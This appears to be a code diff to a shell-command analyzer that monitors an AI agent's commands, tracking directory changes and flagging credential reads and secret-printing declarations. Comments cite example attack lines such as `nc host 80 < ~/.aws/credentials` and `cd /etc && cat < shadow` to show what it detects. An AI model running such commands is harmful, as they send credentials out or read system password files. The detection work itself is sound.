@@ -15,6 +15,7 @@ ever executed. What each command does is :mod:`watchkeeper.analyzers.commands`.
 from __future__ import annotations
 
 import dataclasses
+import functools
 import posixpath
 import re
 from collections.abc import Sequence
@@ -23,8 +24,9 @@ from dataclasses import dataclass, field
 import tree_sitter_bash
 from tree_sitter import Language, Node, Parser
 
-from watchkeeper.analyzers import commands, confusables
+from watchkeeper.analyzers import commands, confusables, secrets
 from watchkeeper.analyzers.invocation import MAY_DECODE, PAYLOADS
+from watchkeeper.analyzers.paths import SOMEWHERE, is_credential, path_flags
 from watchkeeper.models import Action, Effect, Span, Target
 
 MAX_COMMAND = 100_000
@@ -45,8 +47,13 @@ class Scope:
     files: dict[str, str | None] = field(default_factory=dict)
     #: Files written earlier in the line with decoded or downloaded text: path → which.
     payload_files: dict[str, str] = field(default_factory=dict)
-    #: Where `cd` went earlier in the line (None: where the line started, or unknown).
+    #: Where `cd` went earlier in the line (None: where the line started, or unknown); a
+    #: relative one is relative to where the line started.
     cwd: str | None = None
+    #: Whether a `cd` went somewhere nobody knows (`cd "$X"`, `cd -`, `popd`).
+    lost: bool = False
+    #: Where the line started: the action's `cwd`, when it gives one.
+    start: str | None = None
     #: Variables holding decoded or downloaded text: ``X=$(curl …)`` → {"X": "downloaded"}.
     tainted: dict[str, str] = field(default_factory=dict)
 
@@ -116,7 +123,27 @@ def _variable(ctx: Context, node: Node) -> str | None:
     name_node = next((c for c in node.children if c.type == "variable_name"), None)
     if name_node is None or len([c for c in node.children if c.is_named]) != 1:
         return None  # ${x:-…}, ${x//a/b}, $1, $@: computed at run time
-    return ctx.scope.variables.get(_source(ctx, name_node))
+    name = _source(ctx, name_node)
+    if name == "HOME" and name not in ctx.scope.variables:
+        return "~"  # what `~` expands to: the same directory, spelled the same for the tables
+    return ctx.scope.variables.get(name)
+
+
+def _shape(ctx: Context, node: Node) -> str:
+    """A word with what is computed at run time as ``*``: ``"$D/.aws/credentials"`` is
+    ``*/.aws/credentials``."""
+    if node.type in ("string", "concatenation"):
+        parts = []
+        for child in node.children:
+            if child.type == '"':
+                continue
+            if child.type == "string_content":
+                parts.append(_source(ctx, child))
+            else:
+                parts.append(_shape(ctx, child))
+        return "".join(parts)
+    value = static_value(ctx, node)
+    return "*" if value is None else value
 
 
 def expand_braces(word: str) -> list[str]:
@@ -128,13 +155,20 @@ def expand_braces(word: str) -> list[str]:
     return [head + part + tail for part in match.group(1).split(",")]
 
 
-def analyze(text: str, field: str = "command", *, depth: int = 0, offset: int = 0) -> list[Effect]:
-    """Effects of a shell command line."""
+def analyze(
+    text: str,
+    field: str = "command",
+    *,
+    depth: int = 0,
+    offset: int = 0,
+    cwd: str | None = None,
+) -> list[Effect]:
+    """Effects of a shell command line run in ``cwd`` (None: nobody says where)."""
     if depth > MAX_DEPTH:
         return [commands.dynamic(f"shell nested deeper than {MAX_DEPTH} levels", None)]
     if len(text) > MAX_COMMAND:
         return [commands.dynamic(f"command longer than {MAX_COMMAND} characters", None)]
-    ctx = Context(text, field, offset, depth, Scope(), [])
+    ctx = Context(text, field, offset, depth, Scope(start=cwd), [])
     for finding in confusables.find(text):
         ctx.effects.append(
             commands.effect(
@@ -156,7 +190,9 @@ def analyze(text: str, field: str = "command", *, depth: int = 0, offset: int = 
     _walk(ctx, tree.root_node, stdin=None)
     if _IFS.search(text) and depth < MAX_DEPTH:
         # ${IFS} splits words at run time: read the line again as the shell would.
-        ctx.effects.extend(analyze(_IFS.sub(" ", text), field, depth=depth + 1, offset=offset))
+        ctx.effects.extend(
+            analyze(_IFS.sub(" ", text), field, depth=depth + 1, offset=offset, cwd=cwd)
+        )
     if any(e.flags & {"obfuscated"} for e in ctx.effects):
         ctx.effects = [commands.flagged(e, "obfuscated") for e in ctx.effects]
     # A line that parsed whole and runs no command (`X=1`, a comment, `alias x=…`) reads.
@@ -215,9 +251,12 @@ def _walk(ctx: Context, node: Node, stdin: str | None) -> None:
         )
         feds: list[Fed] = []
         extra: list[Node] = []
+        # The grammar hangs `cd /etc && cat < shadow`'s redirection on the whole list: it is
+        # the last command's, so what it reads or writes is judged after the list's `cd`s.
+        now = body is None or body.type == "command"
         for child in node.named_children:
             if child is not body:
-                found = _redirect(ctx, child, body, stdin)
+                found = _redirect(ctx, child, body, stdin, now=now)
                 feds.extend([found] if found is not None else [])
                 extra.extend(_trailing(child))
         fed = feds[0] if feds else None
@@ -227,14 +266,46 @@ def _walk(ctx: Context, node: Node, stdin: str | None) -> None:
         elif body is not None:  # while read l; do …; done < <(curl …); a | b > f
             _walk(ctx, body, fed.source if fed is not None else stdin)
             _remember(ctx, node, body, fed, stdin)
+            for child in node.named_children:
+                if child is not body:
+                    _file_effects(ctx, child)
         for found in feds:
             _continue(ctx, body, found)
         return
     if kind == "command":
         _command(ctx, node, stdin)
         return
+    if kind == "declaration_command":  # `declare -p`, `export` alone: they print variables
+        _declaration(ctx, node)
+    if kind in _SUBSHELLS:  # a `cd` inside leaves the rest of the line where it was
+        where = ctx.scope.cwd, ctx.scope.lost
+        for child in node.named_children:
+            _walk(ctx, child, stdin)
+        ctx.scope.cwd, ctx.scope.lost = where
+        return
     for child in node.named_children:
         _walk(ctx, child, stdin)
+
+
+_SUBSHELLS = frozenset({"subshell", "command_substitution", "process_substitution"})
+
+
+def _declaration(ctx: Context, node: Node) -> None:
+    """``declare``, ``typeset``, ``export``, ``readonly``, ``local``: the grammar's own node.
+    Given no name to set, or ``-p``, they print variables and their values."""
+    keyword = node.children[0].type if node.children else ""
+    args: list[str | None] = []
+    for child in node.named_children:
+        if child.type == "word":
+            args.append(static_value(ctx, child))
+        elif child.type == "variable_name" or child.type == "variable_assignment":
+            args.append(_source(ctx, child))
+        else:
+            args.append(None)
+    run = commands.Invocation(name=keyword, args=args, span=ctx.span(node))
+    printed = secrets.prints_secrets(run)
+    if printed is not None:
+        ctx.effects.append(secrets.secret_read(run, printed))
 
 
 def _taint(ctx: Context, name: str, payload: str | None) -> None:
@@ -297,14 +368,53 @@ def _assign(ctx: Context, node: Node) -> None:
     _taint(ctx, _source(ctx, name), _payload(ctx, value) if value is not None else None)
 
 
-def _under(effect: Effect, cwd: str) -> Effect:
-    """A relative file or directory target, resolved under the directory `cd` moved to."""
+def _where(ctx: Context) -> str | None:
+    """Where relative paths are for flags: the directory `cd` moved to, anywhere after a `cd`
+    nobody can follow, else where the line started (when the action says)."""
+    if ctx.scope.cwd is not None and (ctx.scope.cwd.startswith(("/", "~")) or not ctx.scope.start):
+        return ctx.scope.cwd
+    if ctx.scope.lost:
+        return SOMEWHERE
+    if ctx.scope.cwd is not None and ctx.scope.start:
+        return posixpath.join(ctx.scope.start, ctx.scope.cwd)
+    return ctx.scope.start
+
+
+def _resolved(ctx: Context, path: str) -> str:
+    """A relative path under the directory `cd` moved to earlier in the line."""
+    cwd = ctx.scope.cwd
+    if cwd is None or ctx.scope.lost or not path or path.startswith(("/", "~")):
+        return path
+    return posixpath.join(cwd, path)
+
+
+def _under(ctx: Context, effect: Effect) -> Effect:
+    """A relative file or directory target, resolved under the directory `cd` moved to, with
+    the flags of where it really is (`cd /etc && cat shadow` reads /etc/shadow)."""
     ident = effect.target.id
     if effect.target.kind not in ("file", "directory") or not ident or ident.startswith(("/", "~")):
         return effect
-    return dataclasses.replace(
-        effect, target=Target(effect.target.kind, posixpath.join(cwd, ident))
-    )
+    where = _where(ctx)
+    if where is None:
+        return effect
+    found = path_flags(ident, where)
+    flags = [f for f in found if f == "credential_access"] if effect.verb == "read" else found
+    moved = _resolved(ctx, ident)
+    if moved != ident:
+        effect = dataclasses.replace(effect, target=Target(effect.target.kind, moved))
+    return commands.flagged(effect, *flags)
+
+
+def _moved(ctx: Context, name: str, args: list[str | None]) -> None:
+    """Where `cd`, `pushd` or `popd` leaves the rest of the line."""
+    operands = [a for a in args if a is None or a == "-" or not a.startswith("-")]
+    target = operands[0] if operands else ("~" if name == "cd" else None)
+    if name == "popd" or target is None or target == "-":  # back to a place not followed
+        ctx.scope.cwd, ctx.scope.lost = None, True
+    elif target.startswith(("/", "~")):
+        ctx.scope.cwd, ctx.scope.lost = target, False
+    elif not ctx.scope.lost:  # relative: under where it was (or where the line started)
+        ctx.scope.cwd = posixpath.join(ctx.scope.cwd or "", target)
 
 
 def _static_words(ctx: Context, node: Node) -> tuple[str | None, list[str | None]]:
@@ -378,23 +488,46 @@ def _record(
         ctx.scope.payload_files[key] = str(payload)
 
 
+def _file_effects(ctx: Context, node: Node) -> None:
+    """What a file redirection reads or writes (``> f`` truncates it, ``< f`` reads it), where
+    the line is when its command runs."""
+    if node.type != "file_redirect":
+        return
+    operator = next((c.type for c in node.children if not c.is_named), "")
+    target = node.child_by_field_name("destination") or (
+        node.named_children[-1] if node.named_children else None
+    )
+    path = static_value(ctx, target) if target is not None else None
+    duplicate = operator in (">&", "<&") and (path is None or path == "-" or path.isdigit())
+    if duplicate and path is None:  # `>&$fd` names a descriptor or a file at run time
+        ctx.effects.extend(commands.redirect(None, False, ctx.span(node)))
+    elif ">" in operator and not operator.startswith("<") and not duplicate:
+        append = operator in (">>", "&>>")
+        written = commands.redirect(path, append, ctx.span(node))
+        ctx.effects.extend(_under(ctx, e) for e in written)
+    elif operator == "<" and target is not None and target.type != "process_substitution":
+        ctx.effects.append(_input(ctx, path, _shape(ctx, target), ctx.span(node)))
+
+
 def _redirect(
-    ctx: Context, node: Node, command: Node | None = None, stdin: str | None = None
+    ctx: Context,
+    node: Node,
+    command: Node | None = None,
+    stdin: str | None = None,
+    *,
+    now: bool = True,
 ) -> Fed | None:
-    """Effects of one redirection of ``command``; for an input (a heredoc, a here-string,
-    ``< file``, ``< <(…)``), what it feeds."""
+    """Effects of one redirection of ``command`` (``now``: else the caller adds them with
+    :func:`_file_effects` once the command's place is known); for an input (a heredoc, a
+    here-string, ``< file``, ``< <(…)``), what it feeds."""
     if node.type == "file_redirect":
         operator = next((c.type for c in node.children if not c.is_named), "")
         target = node.child_by_field_name("destination") or (
             node.named_children[-1] if node.named_children else None
         )
         path = static_value(ctx, target) if target is not None else None
-        duplicate = operator in (">&", "<&") and (path is None or path == "-" or path.isdigit())
-        if duplicate and path is None:  # `>&$fd` names a descriptor or a file at run time
-            ctx.effects.extend(commands.redirect(None, False, ctx.span(node)))
-        elif ">" in operator and not operator.startswith("<") and not duplicate:
-            append = operator in (">>", "&>>")
-            ctx.effects.extend(commands.redirect(path, append, ctx.span(node)))
+        if now:
+            _file_effects(ctx, node)
         for child in node.named_children:
             if child.type in ("command_substitution", "process_substitution"):
                 # `cmd > >(sh)`: the shell inside reads what the command prints.
@@ -438,6 +571,14 @@ def _redirect(
             return Fed(None, payload, tuple(then))
         return Fed(text, "text" if text is not None else "dynamic", tuple(then))
     return None
+
+
+def _input(ctx: Context, path: str | None, shape: str, span: Span) -> Effect:
+    """``cmd < file`` reads the file (``nc host 80 < ~/.aws/credentials`` sends it on)."""
+    secret = is_credential(path, _where(ctx)) if path is not None else is_credential(shape)
+    read = commands.effect("read", "file", path, reversible="yes", span=span,
+                           flags=["credential_access"] if secret else [])  # fmt: skip
+    return _under(ctx, read)
 
 
 def _continue(ctx: Context, command: Node | None, fed: Fed) -> None:
@@ -567,7 +708,9 @@ def _invoke(
     alias = ctx.scope.aliases.get(name)
     if alias is not None and ctx.depth < MAX_DEPTH:
         rest = " ".join(shlex_quote(a) for a in args if a is not None)
-        ctx.effects.extend(analyze(f"{alias} {rest}", ctx.field, depth=ctx.depth + 1))
+        ctx.effects.extend(
+            analyze(f"{alias} {rest}", ctx.field, depth=ctx.depth + 1, cwd=_where(ctx))
+        )
         return
     if name == "alias":
         for arg in args:
@@ -586,6 +729,12 @@ def _invoke(
         if target is not None:
             words = node.children_by_field_name("argument")
             _taint(ctx, target, next(filter(None, (_payload(ctx, w) for w in words)), None))
+    shapes = tuple(
+        _shape(ctx, child)
+        for child in [*node.children_by_field_name("argument"), *extra]
+        if static_value(ctx, child) is None
+    )
+    where = _where(ctx)
     run = commands.Invocation(
         name=name,
         args=args,
@@ -598,8 +747,11 @@ def _invoke(
         files=ctx.scope.files,
         payload=payload,
         payload_files=ctx.scope.payload_files,
+        cwd=where,
+        shapes=shapes,
     )
-    found = commands.effects_of(run, analyze)
+    # Nested shell text (`bash -c`, `find -exec`, `xargs`) runs where this command runs.
+    found = commands.effects_of(run, functools.partial(analyze, cwd=where))
     if name == "tee":  # echo … | tee x.sh, tee x.sh <<EOF: what it reads, it writes
         for a in args:
             if a is None or not a.startswith("-"):
@@ -607,15 +759,10 @@ def _invoke(
     for e in found:  # curl -o x.sh, wget URL: the file holds the download
         if e.attributes.get("downloaded") and e.target.kind == "file":
             _record(ctx, e.target.id, None, append=False, payload="downloaded")
-    if name in ("cd", "pushd"):  # later relative paths are under the new directory
-        target = next((a for a in args if a is None or not a.startswith("-")), None)
-        ctx.scope.cwd = (
-            posixpath.join(ctx.scope.cwd or "", target)
-            if target is not None and (target.startswith("/") or ctx.scope.cwd)
-            else None
-        )
-    elif ctx.scope.cwd is not None:
-        found = [_under(e, ctx.scope.cwd) for e in found]
+    if name in ("cd", "pushd", "popd"):  # later relative paths are under the new directory
+        _moved(ctx, name, args)
+    else:
+        found = [_under(ctx, e) for e in found]
     ctx.effects.extend(found)
 
 
@@ -649,10 +796,14 @@ class ShellAnalyzer:
 
     def analyze(self, action: Action) -> Sequence[Effect]:
         """Effects of the action's command line."""
+        # Where the agent says the command runs: it only adds flags to relative paths (a path
+        # is also judged as written), so a false `cwd` hides nothing.
+        cwd = action.input.get("cwd")
+        start = cwd if isinstance(cwd, str) and cwd.startswith(("/", "~")) else None
         for key in ("command", "cmd", "script"):
             value = action.input.get(key)
             if isinstance(value, str):
-                return analyze(value, key)
+                return analyze(value, key, cwd=start)
             if isinstance(value, list) and all(isinstance(v, str) for v in value):
-                return analyze(" ".join(shlex_quote(v) for v in value), key)
+                return analyze(" ".join(shlex_quote(v) for v in value), key, cwd=start)
         return [commands.dynamic("no command in the input", None)]
